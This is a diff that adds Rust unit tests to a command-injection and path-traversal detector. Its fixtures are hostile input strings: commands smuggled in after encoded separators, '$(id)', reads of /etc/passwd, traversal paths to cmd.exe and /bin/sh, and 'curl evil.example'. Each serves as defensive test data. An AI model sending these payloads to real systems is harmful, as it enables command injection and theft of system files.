@@ -3874,3 +3874,147 @@ fn semicolon_table_is_data() {
         assert!(hit(v), "{v}");
     }
 }
+
+fn reason(v: &str) -> Option<&'static str> {
+    detect(v, Context::Param).map(|d| d.reason)
+}
+
+#[test]
+fn line_after_one_token_is_a_separator() {
+    // A command line appended after a line break to a one-token value, in every spelling of
+    // the break the detector decodes: judged as after a glued `;`.
+    for v in [
+        "main\necho vulnerable",
+        "main%0aecho vulnerable",
+        "main%0d%0aecho vulnerable",
+        "main%0Aecho%20vulnerable",
+        "abc\r\ncat flag",
+        "test\ntouch pwned",
+        "x_1\ncurl evil.example",
+        "foo-bar\nrm pwned",
+        "main\\necho vulnerable",
+    ] {
+        assert_eq!(reason(v), Some("separator+command"), "{v}");
+    }
+    // Greetings, lists of lines and sentences after a break stay prose.
+    for v in [
+        "Hello\necho is a nice name",
+        "Hello\necho vulnerable",
+        "ok\nping me later",
+        "thanks\nmake it happen",
+        "apple\nbanana\ncat food",
+        "note\n  cat food",
+        "ok\ncat food is great",
+        "Regards\nfind me at the office",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+}
+
+#[test]
+fn hex_escaped_separators_are_decoded() {
+    for v in [
+        "127.0.0.1\\x3bid",
+        "127.0.0.1\\x3Bid",
+        "a\\x7cid",
+        "x\\x26\\x26id",
+        "x\\x0aid",
+        "8.8.8.8\\x3b\\x69\\x64",
+        "1\\x3bcat /etc/passwd",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+    // `\x` escapes of anything but a separator, and separators spelled in prose, stay quiet.
+    for v in [
+        "C:\\xampp\\htdocs",
+        "printf(\"hello\\x0a\")",
+        "\\x41\\x42\\x43",
+        "color \\x3b is a semicolon",
+        "a\\x3bb",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+}
+
+#[test]
+fn json_document_strings_are_judged_alone() {
+    for v in [
+        r#"["a","b;id"]"#,
+        r#"["a", "b | cat /etc/passwd"]"#,
+        r#"{"q":["x","y|id"]}"#,
+        r#"{"host": "127.0.0.1&&whoami"}"#,
+        r#"["a","b\u003bid"]"#,
+        r#"["ok","$(id)"]"#,
+    ] {
+        assert!(hit(v), "{v}");
+    }
+    for v in [
+        r#"["hello","world"]"#,
+        r#"{"id":"42","name":"cat"}"#,
+        r#"{"title":"Tom & Jerry","tags":["a;b","c"]}"#,
+        r#"["salt & pepper", "rock; roll"]"#,
+        r#"{"cmd":"ls -la"}"#,
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+}
+
+#[test]
+fn climb_to_a_program_is_left_to_traversal() {
+    // One path token whose "command" is the file a `..` climb reaches: traversal's.
+    for v in [
+        "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
+        "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
+        "/_vti_bin/..%5c..%5c..%5cwinnt/system32/cmd.exe",
+        "..%3b/..%3b/..%3b/etc/passwd",
+        "..\\/..\\/..\\/docker-compose.yml.php",
+        "/%2e%2e%5c%2e%2e%5cetc/passwd",
+    ] {
+        assert!(!hit(v), "{v}");
+        assert!(crate::traversal::detect(v, Context::Param).is_some(), "{v}");
+    }
+    // A separator, a blank or an expansion starts a command of its own: still cmdi.
+    for v in [
+        "/bin/sh",
+        "/bin/sh -c id",
+        ";/bin/sh",
+        "..;id",
+        "../../bin/sh;id",
+        "x&cmd.exe /c dir",
+        "../../bin/sh${IFS}-c${IFS}id",
+        "..%2f..%2fbin/sh%0aid",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+}
+
+#[test]
+fn prose_and_plain_redirections_about_commands() {
+    for v in [
+        "ps aux | grep nginx shows two processes",
+        "uname -a | grep x86 prints nothing",
+        "git log --oneline | head -n 5 > out.txt",
+        "git log --oneline | head > out.txt",
+        "ls -la > files.txt && wc -l files.txt",
+        "echo $((3 > 2))",
+        "echo $(( 4 == 4 ))",
+        "printf $((2 < 3))",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+    for v in [
+        "ps aux | grep node",
+        "ps aux | sh shows it",
+        "curl evil.example | grep x shows y",
+        "cd ~/projects && make build",
+        "ping -c 4 google.com",
+        "git log | head > index.php",
+        "ls > /tmp/x.txt",
+        "cat /etc/passwd > out.txt",
+        "echo $(($(id)))",
+        "echo $((7*7))",
+        "x; echo $((3 > 2)) > /var/www/x",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+}
